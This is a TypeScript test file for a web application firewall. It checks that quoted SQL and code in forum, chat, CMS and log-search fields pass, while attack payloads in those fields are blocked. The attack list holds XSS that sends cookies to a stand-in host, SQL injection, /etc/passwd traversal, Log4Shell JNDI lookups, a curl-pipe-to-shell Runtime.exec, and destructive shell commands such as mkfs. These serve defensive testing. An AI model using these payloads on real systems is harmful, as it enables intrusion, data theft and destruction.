/**
 * The tech-discussion family's carriers through the full pipeline (bundled rules + the shipped model,
 * `warden eval`): code quoted in them passes, and attacks placed in the same fields — stored XSS in a
 * comment, SQL injection in a search or title, an injection hidden in a code span or written to pass for a
 * whole statement — are still blocked.
 */
import { testCarriers, type Carrier } from './carrier-verdicts.js';

const json = (path: string, body: (v: string) => unknown, method = 'POST'): Carrier => (v) => ({ method, path, query: '', headers: { Host: 'app.example.com', 'Content-Type': 'application/json' }, body: JSON.stringify(body(v)) });
const form = (path: string, fields: (v: string) => [string, string][]): Carrier => (v) => ({ method: 'POST', path, query: '', headers: { Host: 'forum.example.org', 'Content-Type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams(fields(v)).toString() });
const get = (path: string, name: string): Carrier => (v) => ({ method: 'GET', path, query: `${name}=${encodeURIComponent(v)}&limit=100`, headers: { Host: 'grafana.example.io' } });

const CARRIERS: Record<string, Carrier> = {
  'issue comment': json('/api/v3/repos/acme/api/issues/7/comments', (v) => ({ body: v })),
  'forum post title': json('/posts.json', (v) => ({ title: v, raw: 'Any idea?', category: 3 })),
  'Q&A form': form('/questions/ask', (v) => [['title', 'Slow query'], ['post-text', v], ['tagnames', 'sql bash']]),
  'chat message': json('/api/chat.postMessage', (v) => ({ channel: 'C0123ABCD', text: v })),
  'gist file': json('/api/v3/gists', (v) => ({ description: 'notes', public: false, files: { 'query.sql': { content: v } } })),
  'CMS post': json('/wp-json/wp/v2/posts', (v) => ({ title: 'Notes', content: `<!-- wp:paragraph -->\n<p>${v}</p>\n<!-- /wp:paragraph -->`, status: 'draft' })),
  'log search': get('/loki/api/v1/query_range', 'query'),
  'Kibana search': json('/internal/search/ese', (v) => ({ params: { index: 'logs-*', body: { query: { bool: { filter: [{ query_string: { query: v } }] } } } } })),
  'Splunk search': form('/services/search/jobs', (v) => [['search', v], ['earliest_time', '-24h']]),
  'snippet API': json('/api/v1/snippets', (v) => ({ title: 'Usage', lang: 'java', code: v })),
  'paste form': form('/paste', (v) => [['title', 'Usage'], ['syntax', 'text'], ['content', v], ['expiry', '1d']]),
  'notebook cell': json('/api/1.2/commands/execute', (v) => ({ language: 'python', clusterId: '1205-123456-abcdefgh', contextId: '8812', command: v })),
  'analytics event': json('/e/', (v) => [{ event: '$pageview', properties: { $current_url: `https://bi.example.io/questions/new?db=4&query=${encodeURIComponent(v)}`, $host: 'bi.example.io' } }]),
  'site search': get('/search', 'q'),
  'Kibana KQL filter': json('/internal/bsearch', (v) => ({ batch: [{ request: { params: { index: 'logs-*', body: { query: { bool: { filter: [{ kql: v }] } } } } } }] })),
  'detection rule': json('/api/detection_engine/rules', (v) => ({ name: 'Shell from web server', type: 'eql', language: 'eql', index: ['logs-endpoint.events.process-*'], query: v, severity: 'high' })),
  'Datadog log search': get('/logs', 'query'),
};

const BENIGN: [string, string][] = [
  ['issue comment', "Why is this slow?\n\n```sql\nSELECT o.id, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.status = 'paid' ORDER BY o.id DESC LIMIT 20;\n```"],
  ['forum post title', 'Quick question: does `SELECT count(*) FROM orders` lock the table?'],
  ['Q&A form', "```sql\nSELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'orders' ORDER BY ordinal_position;\n```"],
  ['chat message', "fwiw we run ```SELECT table_name FROM information_schema.tables WHERE table_schema = 'app';```"],
  ['gist file', "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public';"],
  ['CMS post', 'New arrivals every Monday.'],
  // Searches for what probes send (log-search.ts), programs pasted whole (quoted-program.ts), a regex, a BI page's URL.
  ['log search', '{app="php-fpm", namespace="prod"} |= "/etc/passwd" | json | status >= 500'],
  ['Kibana search', 'message:"/etc/passwd" AND kubernetes.container.name:nginx'],
  ['Splunk search', 'search index=main sourcetype=access_combined "/etc/passwd" | stats count by clientip | sort -count'],
  ['snippet API', 'try (InputStream in = getClass().getClassLoader().getResourceAsStream("application.properties")) {\n    Properties p = new Properties();\n    p.load(in);\n}'],
  ['paste form', 'try (InputStream in = getClass().getClassLoader().getResourceAsStream("schema.sql")) {\n    Properties p = new Properties();\n    p.load(in);\n}'],
  ['chat message', 'anyone seen this? ```try (InputStream in = getClass().getClassLoader().getResourceAsStream("application.properties")) {\n    Properties p = new Properties();\n    p.load(in);\n}```'],
  ['gist file', '\\b(\\w+)\\s+\\1\\b'],
  // Blind benign set 5's (read): a notebook's SQL cell under its magic line, a printed Java trace in a bug report's fence.
  ['notebook cell', '%%sql\nSELECT country, count(*) FROM customers GROUP BY country ORDER BY 2 DESC LIMIT 10'],
  ['issue comment', 'Getting this on startup since 2.14:\n\n```\nException in thread "main" java.lang.IllegalStateException: Failed to load ApplicationContext\n\tat org.springframework.boot.SpringApplication.run(SpringApplication.java:1306)\nCaused by: java.lang.ClassNotFoundException: com.example.config.CacheConfig\n\tat java.base/jdk.internal.loader.BuiltinClassLoader.loadClass(BuiltinClassLoader.java:641)\n\tat java.base/java.lang.ClassLoader.loadClass(ClassLoader.java:525)\n```\n\nAny idea what changed?'],
  ['analytics event', "SELECT table_name FROM information_schema.tables WHERE table_schema = 'app';"],
  // Blind benign sets 5 and 7 (read): searches for traversals and system files in KQL, Datadog and EQL (log-search.ts).
  ['Kibana KQL filter', 'url.path : "/etc/passwd" or url.path : *"../"* and not source.ip : 10.0.0.0/8'],
  ['Datadog log search', '@http.url_details.path:*\\/etc\\/passwd* OR @http.url_details.queryString.file:*..%2F* -@network.client.ip:10.*'],
  ['detection rule', 'process where event.type == "start" and process.parent.name in ("nginx", "httpd", "php-fpm", "w3wp.exe") and process.name in ("sh", "bash", "cmd.exe", "powershell.exe", "whoami", "id", "uname")'],
];

const ATTACKS: [string, string][] = [
  ['issue comment', '<script>fetch("https://x.example/c?"+document.cookie)</script>'],
  ['issue comment', 'Nice post <img src=x onerror=alert(document.domain)>'],
  ['issue comment', 'see `<script>alert(1)</script>`'],
  ['forum post title', "x' UNION SELECT username, password FROM users--"],
  ['forum post title', "`' OR '1'='1' --`"],
  ['forum post title', "`SELECT 1 WHERE a = ' UNION SELECT password FROM users WHERE b = '`"],
  ['Q&A form', "'; DROP TABLE users; --"],
  ['Q&A form', '<svg/onload=alert(1)>'],
  ['chat message', "```'; DROP TABLE users; --```"],
  ['gist file', "1' AND SLEEP(5)#"],
  ['CMS post', '<img src=x onerror=alert(1)>'],
  ['CMS post', '<script>alert(document.cookie)</script>'],
  ['log search', "x' UNION SELECT password FROM users--"],
  ['log search', '../../../../etc/passwd'],
  // The same carriers' near misses: a program calling a sink, a breakout in a snippet, a search stage that runs a program,
  // a search that is a traversal, an injection in the BI page's URL.
  ['snippet API', 'Object o = Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null);\nRuntime r = (Runtime) o;\nr.exec("curl http://x.example/s.sh | sh");'],
  ['paste form', "x = 1;\n'; DROP TABLE users; --"],
  ['notebook cell', "%%sql\nSELECT * FROM users WHERE name = '' OR '1'='1' --'"],
  ['issue comment', 'see trace:\n```\njava.lang.Exception: x\n\tat a.B.c(B.java:1)\n\tat a.B.d(B.java:2)\n${jndi:ldap://x.example/a}\n```'],
  ['Splunk search', '| makeresults | runshellscript "../../../../bin/sh -c id"'],
  ['Kibana search', 'message:"../../../../etc/passwd" AND host.name:api'],
  ['analytics event', "x' UNION SELECT username, password FROM users--"],
  // Shell commands written as statements one a line in a body field (the lead's, session 21: they passed for a program).
  ['paste form', 'a;\ncat /etc/passwd;\n'],
  ['paste form', '1;\ntouch /tmp/pwned;\nls -la /;\n'],
  ['snippet API', 'a;\nmkfs.ext4 /dev/sda1;\n'],
  ['site search', "1' OR '1'='1"],
  ['site search', '"><script>alert(1)</script>'],
  // Payloads written in a log search's shape, in the literals a shell command, a MySQL string or a script built around
  // the search would leave unquoted (log-search.ts, session 24): blocked before this change only in part (6 of 12).
  ['Kibana KQL filter', '{job="x"} |~ "a|cat /etc/passwd"'],
  ['log search', 'x "| cat /etc/passwd " AND y'],
  ['Datadog log search', 'x" | tail -n1 /etc/passwd "AND y'],
  ['Kibana KQL filter', 'x "|sleep 5|" AND y:z'],
  ['site search', 'x "OR 1=1 OR" y AND z'],
  ['Kibana KQL filter', 'msg:"x" AND user:"a OR 1=1 OR b"'],
  ['Datadog log search', 'x "or sleep(5) or" y AND z'],
  ['detection rule', 'a:"x" and b:"*alert(1)*"'],
  ['Kibana KQL filter', 'a:"x" and b:"in alert(1) in"'],
  ['detection rule', 'process where x in ("a") and system("id")'],
  ['detection rule', 'a:b and c in (select password from users)'],
  ['Datadog log search', 'process where process.name in ("a") and x == "b" | id'],
  // Payloads percent-encoded into a wildcard term, which a search may now hold (`*..%2F*`): the decoded form is scored.
  ['Kibana KQL filter', 'a:b AND c:*%3Cscript%3Ealert(1)%3C%2Fscript%3E*'],
  ['Datadog log search', 'a:b AND c:*%27%20OR%201%3D1%20--%20*'],
  ['detection rule', 'a:b AND c:*%22%20%7C%20cat%20%2Fetc%2Fpasswd*'],
  ['Kibana KQL filter', 'a:b and c:*..%2F..%2F..%2F..%2Fetc%2Fpasswd%00*'],
  ['Datadog log search', 'a:b and c:*%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D*'],
];

testCarriers('the tech-discussion carriers through the full pipeline', 'lets code quoted in them pass', CARRIERS, BENIGN, ATTACKS);
